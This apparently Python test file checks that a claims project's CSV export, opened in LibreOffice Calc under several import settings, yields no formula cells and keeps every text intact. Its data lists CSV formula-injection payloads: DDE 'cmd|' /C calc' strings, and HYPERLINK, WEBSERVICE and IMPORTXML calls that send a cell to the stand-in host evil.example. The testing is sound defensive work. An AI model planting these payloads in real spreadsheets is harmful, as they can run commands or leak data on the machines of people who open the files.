"""What LibreOffice makes of an export: no formula in any cell, and every text as it was."""

import csv
import json
import os
import random
import re
import shutil
import subprocess
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from uuid import uuid4
from zipfile import ZipFile

import pytest
from lxml import etree

from claims.exchange.csv_cells import decode, encode
from claims.exchange.write_csv import HEADER, csv_blocks
from claims.filters import ClaimFilter
from claims.management.export_command import moderators_eyes
from claims.models import User
from claims.vocabulary import Label
from tests.cast import assess
from tests.exchanging import stored

pytestmark = pytest.mark.long

CELLS = json.loads((Path(__file__).parent / "data" / "csv_cells.json").read_text(encoding="utf-8"))
NAMES = ("soffice", "libreoffice")
HELP = (
    "This test needs LibreOffice Calc and could neither find nor install it. Install it (Debian: apt-get install "
    "libreoffice-calc) or run the tests as root."
)
# Separators, quotation mark, UTF-8, first line, then: text in quotation marks as text or not, numbers and dates
# looked for, formulas evaluated. As a person opens it who chose the commonest, and who chose the most dangerous.
FILTERS = {
    "comma, as it comes": "44,34,76,1,,0,false,false,false,false,false,0,false",
    "comma, all looked for": "44,34,76,1,,0,false,true,false,false,false,0,true",
    "comma, quoted is text": "44,34,76,1,,0,true,false,false,false,false,0,false",
    "semicolon": "59,34,76,1,,0,false,true,false,false,false,0,true",
    "tab": "9,34,76,1,,0,false,true,false,false,false,0,true",
    "comma, semicolon and tab": "44/59/9,34,76,1,,0,false,true,false,false,false,0,true",
    "comma, semicolon and tab, run together, trimmed": "44/59/9/MRG,34,76,1,,0,false,true,false,true,false,0,true",
    "semicolon and tab, no quotation mark": "59/9,0,76,1,,0,false,true,false,true,false,0,true",
}
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
HUGE = etree.XMLParser(huge_tree=True)

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "|",
    "%",
    "＝",
    "＋",
    "−",
    "\t=",
    " =",
    "\u200b=",
    "\xa0=",
    '"=',
    "'=",
    "'@",
    ";=",
    "\n=",
    "=\t",
)
BODIES = (
    *("1+1", "SUM(1+1)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1;"x")', 'DDE("soffice";"x";"y")'),
    *('WEBSERVICE("http://evil.example/")', "A1", "2+5+cmd|'/C calc'!A0", 'IMPORTXML(A1;"//a")', "1", "TRUE()"),
)
PATTERNS = [start + body for start, body in product(STARTS, BODIES)]
AROUND = ("", "a", "The toll; ", "said\t", "“", "one\ntwo ", "a,b", '"', "x;")
# What XML can hold and LibreOffice keeps as it is: no control characters, and line ends of one kind.
PIECES = " ;,'\"“”’\xa0\u200b\u202e\u2066=+-@|%−＝ab1é漢😀\u0301\n\tשלום"


def generated(count: int) -> Iterator[str]:
    chance = random.Random(7)
    for _ in range(count):
        yield "".join(chance.choices(PIECES, k=chance.randint(1, 24)))


def all_cells() -> list[str]:
    known = [str(case["cell"]) for case in CELLS]
    within = [before + pattern for before in AROUND[1:] for pattern in PATTERNS[::3]]
    cells = [*known, *PATTERNS, *within, *generated(3_000)]
    return [cell.replace("\r\n", "\n").replace("\r", "\n") for cell in cells]


@pytest.fixture(scope="module")
def soffice() -> str:
    """LibreOffice: on the path, or installed now where that can be done."""
    found = next((path for name in NAMES if (path := shutil.which(name))), None)
    if found is None and os.geteuid() == 0 and shutil.which("apt-get"):
        quiet = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
        for command in (["update"], ["install", "--yes", "--no-install-recommends", "libreoffice-calc"]):
            subprocess.run(["apt-get", "-qq", *command], env=quiet, check=False)
        found = next((path for name in NAMES if (path := shutil.which(name))), None)
    if found is None:
        pytest.fail(HELP)
    return found


def opened(soffice: str, file: Path, how: str) -> list[list[tuple[str, bool]]]:
    """The rows as LibreOffice has them: of each cell its text, and whether it is a formula."""
    out = file.parent / uuid4().hex
    command = [
        *(soffice, f"-env:UserInstallation=file://{file.parent}/profile", "--headless", "--norestore"),
        *("--convert-to", "xlsx", "--outdir", str(out), f"--infilter=Text - txt - csv (StarCalc):{how}", str(file)),
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=600, check=False)
    (made,) = out.glob("*.xlsx") if out.exists() else pytest.fail(f"{done.stdout}{done.stderr}")
    with ZipFile(made) as parts:
        strings = ["".join(one.itertext()) for one in etree.fromstring(parts.read("xl/sharedStrings.xml"), HUGE)]
        sheet = etree.fromstring(parts.read("xl/worksheets/sheet1.xml"), HUGE)
    return [_row(row, strings) for row in sheet.iter(f"{SHEET}row")]


def _row(row: etree._Element, strings: list[str]) -> list[tuple[str, bool]]:
    """The cells in their columns: empty ones may be left out."""
    found: list[tuple[str, bool]] = []
    for cell in row.iter(f"{SHEET}c"):
        column = 0
        for letter in re.sub("[^A-Z]", "", cell.get("r", "")):
            column = column * 26 + ord(letter) - ord("A") + 1
        found += [("", False)] * (column - 1 - len(found))
        found.append(_cell(cell, strings))
    return found


def _cell(cell: etree._Element, strings: list[str]) -> tuple[str, bool]:
    value = cell.findtext(f"{SHEET}v", "")
    text = strings[int(value)] if cell.get("t") == "s" and value else value
    # The format writes what XML cannot hold, and what looks like that, as _x000D_.
    text = re.sub("_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), text)
    return text, cell.find(f"{SHEET}f") is not None


@pytest.mark.parametrize("how", FILTERS.values(), ids=FILTERS)
def test_no_cell_becomes_a_formula_however_the_file_is_opened(how: str, soffice: str, tmp_path: Path) -> None:
    file = tmp_path / "cells.csv"
    with file.open("w", encoding="utf-8", newline="") as written:
        csv.writer(written).writerows(["words", encode(cell), "words"] for cell in all_cells())
    cells = [cell for row in opened(soffice, file, how) for cell in row]
    formulas = [text for text, is_formula in cells if is_formula]
    print(f"{how}: {len(cells):,} cells, {len(formulas)} formulas")
    assert len(cells) > len(all_cells())
    assert formulas == []


def test_every_text_is_as_it_was_after_decoding(soffice: str, tmp_path: Path) -> None:
    file = tmp_path / "cells.csv"
    wanted = all_cells()
    with file.open("w", encoding="utf-8", newline="") as written:
        csv.writer(written, quoting=csv.QUOTE_ALL).writerows(["words", encode(cell), "words"] for cell in wanted)
    rows = opened(soffice, file, FILTERS["comma, quoted is text"])
    found = [decode(row[1][0]) for row in rows]
    differ = [(a, b) for a, b in zip(wanted, found, strict=False) if a != b]
    print(f"{len(wanted):,} texts, {len(differ)} differ")
    assert differ == []
    assert len(found) == len(wanted)


@pytest.mark.django_db
def test_a_real_export_opens_without_a_formula_and_with_every_word(
    ana: User, ben: User, soffice: str, tmp_path: Path
) -> None:
    """Texts, notes and facts that are formulas where a spreadsheet reads them; some sentences span cells and lines."""
    chance = random.Random(8)
    for number in range(20):
        body = "\n\n".join(f"{chance.choice(PATTERNS)} and {one}." for one in generated(8))
        claims = stored(f"The toll was {number} crowns on Monday.\n\n{body}", f"https://example.org/=cmd|{number}")
        for claim in claims[:4]:
            assess(claim, ana, Label.UNSOURCED, note=chance.choice(PATTERNS))
            assess(claim, ben, Label.OPINION, note=next(generated(1)))
    file, viewer = tmp_path / "claims.csv", moderators_eyes()
    blocks = csv_blocks(ClaimFilter({}, viewer=viewer).claims, viewer=viewer, base_url="https://desk.example/")
    file.write_text("".join(block.text for block in blocks), encoding="utf-8", newline="")
    with file.open(encoding="utf-8", newline="") as read:
        wanted = list(csv.reader(read))
    for how in ("comma, as it comes", "comma, all looked for", "comma, quoted is text"):
        assert not any(is_formula for row in opened(soffice, file, FILTERS[how]) for _, is_formula in row)
    rows = [[text for text, _ in row] for row in opened(soffice, file, FILTERS["comma, quoted is text"])]
    assert [_as_kept(row) for row in rows] == [_as_kept(row) for row in wanted]


def _as_kept(row: list[str]) -> list[str]:
    """What stands in the columns of words, decoded; a spreadsheet leaves empty cells at the end out."""
    cells = [*row, *[""] * (len(HEADER) - len(row))]
    return [decode(cells[HEADER.index(name)]) for name in ("claim_id", "quote", "prefix", "suffix", "note")]
